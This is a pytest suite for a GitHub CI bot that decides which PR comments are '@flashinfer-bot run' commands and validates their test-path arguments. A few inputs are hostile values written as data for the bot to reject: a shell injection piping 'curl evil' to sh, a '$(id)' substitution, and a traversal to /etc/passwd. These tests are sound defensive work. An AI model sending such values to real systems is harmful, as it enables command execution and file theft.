"""`@flashinfer-bot run`: which comments are commands, and what each one decides.

The corpus is written the way reviewers actually write: Markdown code spans and fences,
quote replies, trailing text, several lines, CRLF from some clients.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from . import load_script

scope = load_script("experimental_test_scope")
bot = load_script("bot_command")

RUN = "@flashinfer-bot run"

# (id, comment, expected action, expected targets or a substring of the rejection)
CORPUS: list[tuple[str, str, str, object]] = [
    # --- not a command: writing about it -----------------------------------------------
    ("empty", "", "none", ()),
    ("lgtm", "LGTM, thanks!", "none", ()),
    ("mention-mid-line", f"You can type {RUN} to start CI.", "none", ()),
    ("code-span-at-start", f"`{RUN}` starts the default lanes.", "none", ()),
    ("code-span-with-paths", f"`{RUN} tests/experimental/` scopes it", "none", ()),
    ("fenced", f"Usage:\n```\n{RUN} tests/experimental/test_a.py\n```\n", "none", ()),
    ("fenced-bash", f"```bash\n{RUN}\n```", "none", ()),
    ("fenced-tilde", f"~~~\n{RUN}\n~~~", "none", ()),
    ("fenced-indented", f"  ```\n{RUN}\n  ```", "none", ()),
    ("fence-long-inner-short", f"````\n```\n{RUN}\n```\n````", "none", ()),
    ("unclosed-fence", f"```\n{RUN}\nforgot to close", "none", ()),
    ("quote", f"> {RUN}\n\nthat is how it works", "none", ()),
    ("quote-no-space", f">{RUN}", "none", ()),
    ("quote-nested", f"> > {RUN} tests/a.py", "none", ()),
    ("quote-lazy-continuation", f"> as you said:\n{RUN}", "none", ()),
    ("html-comment", f"<!--\n{RUN}\n-->", "none", ()),
    ("html-comment-one-line", f"<!-- {RUN} -->", "none", ()),
    ("indented-code", f"    {RUN}", "none", ()),
    ("tab-indented", f"\t{RUN}", "none", ()),
    ("escaped-handle", f"\\{RUN}", "none", ()),
    ("other-verb", "@flashinfer-bot help", "none", ()),
    ("running", "@flashinfer-bot running late", "none", ()),
    ("runs", "@flashinfer-bot runs", "none", ()),
    ("run-dash", "@flashinfer-bot run-all", "none", ()),
    ("other-bot", "@flashinfer-botx run", "none", ()),
    ("no-space", "@flashinfer-botrun", "none", ()),
    ("list-item", f"- {RUN}", "none", ()),
    ("heading", f"# {RUN}", "none", ()),
    ("bold", f"**{RUN}**", "none", ()),
    # --- bare run: default lanes, scope cleared ----------------------------------------
    ("bare", RUN, "run-default", ()),
    ("bare-trailing-space", RUN + "   ", "run-default", ()),
    ("bare-crlf", f"{RUN}\r\n", "run-default", ()),
    ("bare-cr-only", f"thanks\r{RUN}\r", "run-default", ()),
    ("bare-after-text", f"Rebased on main.\n\n{RUN}\n\nThanks!", "run-default", ()),
    ("bare-after-fence", f"```\nlog\n```\n{RUN}", "run-default", ()),
    ("bare-after-quote-blank", f"> question?\n\n{RUN}", "run-default", ()),
    ("bare-after-html-comment", f"<!-- note -->\n{RUN}", "run-default", ()),
    ("bare-indent-3", f"   {RUN}", "run-default", ()),
    ("handle-case", "@FlashInfer-Bot run", "run-default", ()),
    ("two-spaces", "@flashinfer-bot   run", "run-default", ()),
    ("tab-separator", "@flashinfer-bot\trun", "run-default", ()),
    ("twice-identical", f"{RUN}\n{RUN}", "run-default", ()),
    ("bare-plus-mention", f"{RUN}\nSee `{RUN} tests/x.py` for a scoped one.", "run-default", ()),
    # --- scoped: valid paths publish the scope -----------------------------------------
    (
        "one-path",
        f"{RUN} tests/experimental/test_a.py",
        "run-scoped",
        ("tests/experimental/test_a.py",),
    ),
    (
        "several-paths",
        f"{RUN} tests/gemm/test_x.py tests/experimental/ tests/norm/test_n.py::test_b",
        "run-scoped",
        ("tests/gemm/test_x.py", "tests/experimental/", "tests/norm/test_n.py::test_b"),
    ),
    (
        "crlf-paths",
        f"Please try:\r\n{RUN} tests/a.py  tests/b.py\r\nthanks\r\n",
        "run-scoped",
        ("tests/a.py", "tests/b.py"),
    ),
    ("tabs-between", f"{RUN}\ttests/a.py\ttests/b.py", "run-scoped", ("tests/a.py", "tests/b.py")),
    ("duplicates", f"{RUN} tests/a.py tests/a.py", "run-scoped", ("tests/a.py",)),
    ("whole-tree", f"{RUN} tests/", "run-scoped", ("tests/",)),
    ("nbsp-after-run", f"{RUN}\u00a0tests/a.py", "run-scoped", ("tests/a.py",)),
    (
        "next-line-ignored",
        f"{RUN} tests/a.py\ntests/b.py is flaky, skip it",
        "run-scoped",
        ("tests/a.py",),
    ),
    # --- rejected: path-shaped but invalid ---------------------------------------------
    ("backticked-path", f"{RUN} `tests/experimental/test_a.py`", "reject", "backtick"),
    ("quoted-path", f'{RUN} "tests/experimental/test_a.py"', "reject", "quote"),
    ("typo-root", f"{RUN} test/experimental/test_a.py", "reject", "not under tests/"),
    ("leading-dot", f"{RUN} ./tests/a.py", "reject", "not under tests/"),
    ("absolute", f"{RUN} /repo/tests/a.py", "reject", "absolute path"),
    ("traversal", f"{RUN} tests/../../etc/passwd", "reject", "contains '..'"),
    ("injection", f"{RUN} tests/a.py; curl evil | sh", "reject", "shell metacharacter"),
    ("subst", f"{RUN} tests/$(id).py", "reject", "command substitution"),
    ("glob", f"{RUN} tests/experimental/*.py", "reject", "glob"),
    ("flag", f"{RUN} -k test_a tests/a.py", "reject", "starts with '-'"),
    ("flag-only", f"{RUN} --lf", "reject", "starts with '-'"),
    ("param-id", f"{RUN} tests/a.py::test_x[fp16]", "reject", "glob"),
    ("trailing-thanks", f"{RUN} tests/a.py thanks!", "reject", "'thanks!'"),
    ("trailing-period", f"{RUN} tests/a.py.", "run-scoped", ("tests/a.py.",)),
    ("link", f"{RUN} [tests/a.py](https://x/tests/a.py)", "reject", "glob"),
    ("zero-width", f"{RUN} tests/a\u200b.py", "reject", "outside [A-Za-z0-9_./-]"),
    ("too-long", f"{RUN} tests/{'x' * 140}.py", "reject", "longer than the 140-character"),
    # --- rejected: not path-shaped -----------------------------------------------------
    ("please", f"{RUN} please", "reject", "is not a path"),
    ("all", f"{RUN} all", "reject", "is not a path"),
    ("comma", "@flashinfer-bot run, please", "reject", "is not a path"),
    ("colon", "@flashinfer-bot run: tests/a.py", "reject", "does not validate"),
    ("period", "@flashinfer-bot run.", "reject", "is not a path"),
    ("emoji", f"{RUN} 🚀", "reject", "is not a path"),
    ("conflicting", f"{RUN}\n{RUN} tests/a.py", "reject", "more than one"),
    ("conflicting-scopes", f"{RUN} tests/a.py\n{RUN} tests/b.py", "reject", "more than one"),
]


@pytest.mark.parametrize(
    "comment, action, expected", [c[1:] for c in CORPUS], ids=[c[0] for c in CORPUS]
)
def test_corpus(comment: str, action: str, expected: object) -> None:
    decision = bot.decide(comment)
    assert decision.action == action, decision.message
    if action == "reject":
        assert isinstance(expected, str)
        assert expected in decision.message
        assert decision.targets == () and decision.chunks == ()
        assert "No CI run was started" in decision.message
    else:
        assert decision.targets == expected
        if action == "run-scoped":
            assert " ".join(decision.chunks).split(" ") == list(decision.targets)


def test_corpus_ids_unique() -> None:
    ids = [c[0] for c in CORPUS]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("comment", [c[1] for c in CORPUS], ids=[c[0] for c in CORPUS])
def test_reply_never_triggers_itself(comment: str) -> None:
    """The bot's reply quotes the user's text; posting it must not start another run."""
    decision = bot.decide(comment)
    assert bot.find_commands(decision.message) == []


def test_reject_message_cannot_break_out_of_its_code_block() -> None:
    decision = bot.decide(f"{RUN} tests/```\n")
    assert decision.action == "reject"
    assert "````text" in decision.message
    assert bot.find_commands(decision.message) == []


def test_find_commands_reports_line_numbers() -> None:
    comment = f"hi\n```\n{RUN}\n```\n{RUN} tests/a.py\n"
    assert bot.find_commands(comment) == [bot.Command(5, "tests/a.py")]


def test_decide_check_exists(tmp_path: Path) -> None:
    (tmp_path / "tests" / "experimental").mkdir(parents=True)
    (tmp_path / "tests" / "experimental" / "test_a.py").write_text("")
    ok = bot.decide(f"{RUN} tests/experimental/test_a.py", str(tmp_path))
    assert ok.action == "run-scoped"
    missing = bot.decide(f"{RUN} tests/experimental/test_typo.py", str(tmp_path))
    assert missing.action == "reject" and "does not exist" in missing.message
    # The bare command does not look at the tree at all.
    assert bot.decide(RUN, str(tmp_path / "nowhere")).action == "run-default"
    # A scoped command with no tree to check against fails closed.
    gone = bot.decide(f"{RUN} tests/experimental/test_a.py", str(tmp_path / "nowhere"))
    assert gone.action == "reject"


@pytest.mark.parametrize(
    "args, shaped",
    [("tests/a.py", True), ("`tests/a.py`", True), ("foo/bar", True), ("x.py", True)]
    + [("please", False), ("all", False), ("", False)],
)
def test_looks_like_paths(args: str, shaped: bool) -> None:
    assert bot.looks_like_paths(args) is shaped


# --------------------------------------------------------------------------------------------
# CLI


def test_cli_decide_outputs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    comment = tmp_path / "comment.md"
    out = tmp_path / "github_output"
    message = tmp_path / "message.md"
    decision_file = tmp_path / "decision.json"
    comment.write_text(f"{RUN} tests/a.py tests/b.py\r\n")
    code = bot.main(
        [
            "decide",
            "--comment-file",
            str(comment),
            "--github-output",
            str(out),
            "--message-out",
            str(message),
            "--decision-out",
            str(decision_file),
        ]
    )
    assert code == 0
    printed = json.loads(capsys.readouterr().out)
    assert printed["action"] == "run-scoped"
    assert out.read_text() == "action=run-scoped\ntest_path=tests/a.py tests/b.py\n"
    assert "tests/a.py" in message.read_text()
    assert json.loads(decision_file.read_text())["chunks"] == ["tests/a.py tests/b.py"]


@pytest.mark.parametrize(
    "body, action",
    [("nothing", "none"), (RUN, "run-default"), (f"{RUN} please", "reject")],
)
def test_cli_decide_exit_zero_for_every_decision(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], body: str, action: str
) -> None:
    comment = tmp_path / "comment.md"
    comment.write_text(body)
    out = tmp_path / "out"
    assert bot.main(["decide", "--comment-file", str(comment), "--github-output", str(out)]) == 0
    assert f"action={action}\n" in out.read_text()
    capsys.readouterr()


def test_cli_decide_unreadable_is_invalid_input(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert bot.main(["decide", "--comment-file", str(tmp_path / "missing")]) == 2
    assert "cannot read --comment-file" in capsys.readouterr().err


# --------------------------------------------------------------------------------------------
# Status contexts and status JSON are untrusted too


@pytest.mark.parametrize(
    "context",
    [
        "ci/test-scope-1\n",  # "$" would accept the trailing newline
        "ci/test-scope-" + "9" * 5000,  # int() refuses more than 4300 digits
        "ci/test-scope-10000",  # more than MAX_SCOPE_DIGITS: no status of ours
        "ci/test-scope-01",
        "xci/test-scope-1",
        "ci/test-scope-1 ",
    ],
)
def test_only_well_formed_small_scope_contexts_count(context):
    statuses = [{"context": context, "description": "tests/a.py"}]
    assert bot.scope_statuses(statuses) == {}
    assert bot.max_scope_index(statuses) == 0


def test_scope_contexts_up_to_the_digit_limit_count():
    top = int("9" * bot.MAX_SCOPE_DIGITS)
    statuses = [{"context": f"ci/test-scope-{n}", "description": "x"} for n in (1, 42, top)]
    assert sorted(bot.scope_statuses(statuses)) == [1, 42, top]


@pytest.mark.parametrize("depth", [10, 5000, 200_000])
def test_deeply_nested_status_json_is_an_input_error_not_a_crash(depth):
    text = "[" * depth + '{"context": "ci/test-scope-1"}' + "]" * depth
    try:
        statuses = bot.load_statuses(text)
    except scope.ScopeError as exc:
        assert "nested too deeply" in str(exc)
    else:  # shallow enough for the JSON parser: every level is walked without recursion
        assert statuses == [{"context": "ci/test-scope-1"}]
